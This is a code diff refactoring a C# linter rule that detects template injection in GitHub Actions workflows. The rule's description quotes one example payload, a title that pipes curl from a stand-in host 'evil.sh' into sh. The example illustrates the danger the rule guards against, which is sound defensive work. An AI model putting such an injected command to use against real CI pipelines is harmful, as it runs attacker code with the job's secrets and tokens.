@@ -1,5 +1,4 @@
 using System.Text.RegularExpressions;
-using ReleaseLint.Inputs;
 using ReleaseLint.Inputs.Workflows;
 using ReleaseLint.Inputs.Workflows.Expressions;
 using ReleaseLint.Inputs.Yaml;
@@ -10,13 +9,16 @@ namespace ReleaseLint.Rules.Workflows;
 public sealed partial class RL1006TemplateInjection : WorkflowRule
 {
     /// <summary>The rule's metadata.</summary>
-    public static readonly RuleDescriptor Rule = new("RL1006", "template-injection",
+    public static readonly RuleDescriptor Definition = new("RL1006", "template-injection",
         "Untrusted text expanded into a script",
         "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
-        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8);
+        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8)
+    {
+        Reads = RuleInputs.Workflows | RuleInputs.Actions,
+    };
 
     /// <inheritdoc />
-    public override RuleDescriptor Descriptor => Rule;
+    public override RuleDescriptor Descriptor => Definition;
 
     /// <inheritdoc />
     protected override bool IncludesActions => true;
@@ -26,27 +28,26 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
     {
         foreach (var job in workflow.Jobs)
             foreach (var step in job.Steps)
-                CheckStep(context, workflow.Source, step, ExpressionScope.ForWorkflow(workflow, job, step), $"job:{job.Id}/step:{step.StableLabel}", $"step {Quote(step)} of job '{job.Id}'", "workflow");
+                CheckStep(context, step, ExpressionScope.ForWorkflow(workflow, job, step), WorkflowPlace.Of(job, step), "workflow");
     }
 
     /// <inheritdoc />
     protected override void CheckAction(RuleContext context, ActionFile action)
     {
         foreach (var step in action.Steps)
-            CheckStep(context, action.Source, step, ExpressionScope.ForAction(action, step), $"step:{step.StableLabel}", $"step {Quote(step)}", "action");
+            CheckStep(context, step, ExpressionScope.ForAction(action, step), WorkflowPlace.Of(step), "action");
     }
 
-    private static string Quote(WorkflowStep step) => step.Id ?? (step.Name is { } n ? $"\"{n}\"" : step.Label);
-
-    private static void CheckStep(RuleContext context, SourceText source, WorkflowStep step, ExpressionScope scope, string place, string where, string callerKind)
+    private static void CheckStep(RuleContext context, WorkflowStep step, ExpressionScope scope, WorkflowPlace place, string callerKind)
     {
-        if (step.Run is { } run) Check(context, source, run, scope, place, where, "run: script", shell: true, callerKind);
+        if (step.Run is { } run) Check(context, run, scope, place, "run: script", shell: true, callerKind);
         if (step.UsesAction("actions/github-script") && step.WithInput("script") is { } script)
-            Check(context, source, script, scope, place, where, "github-script script:", shell: false, callerKind);
+            Check(context, script, scope, place, "github-script script:", shell: false, callerKind);
     }
 
-    private static void Check(RuleContext context, SourceText source, YamlScalar script, ExpressionScope scope, string place, string where, string what, bool shell, string callerKind)
+    private static void Check(RuleContext context, YamlScalar script, ExpressionScope scope, WorkflowPlace place, string what, bool shell, string callerKind)
     {
+        var where = place.Describe();
         foreach (var expression in ExpressionTemplate.Scan(script.Value))
         {
             if (expression.Node is null) continue;
@@ -63,9 +64,8 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
                 : shell
                 ? $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and use \"${variable}\""
                 : $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and read process.env.{variable}";
-            context.Report(expression.Locate(script, source),
-                $"'{written}' in the {what} of {where} expands {origin} into the {(shell ? "shell script" : "JavaScript")} before it runs; {fix}",
-                $"{place}|{written}");
+            context.At(expression.Locate(script)).In(place).Key(written)
+                .Report($"'{written}' in the {what} of {where} expands {origin} into the {(shell ? "shell script" : "JavaScript")} before it runs; {fix}");
         }
     }
 
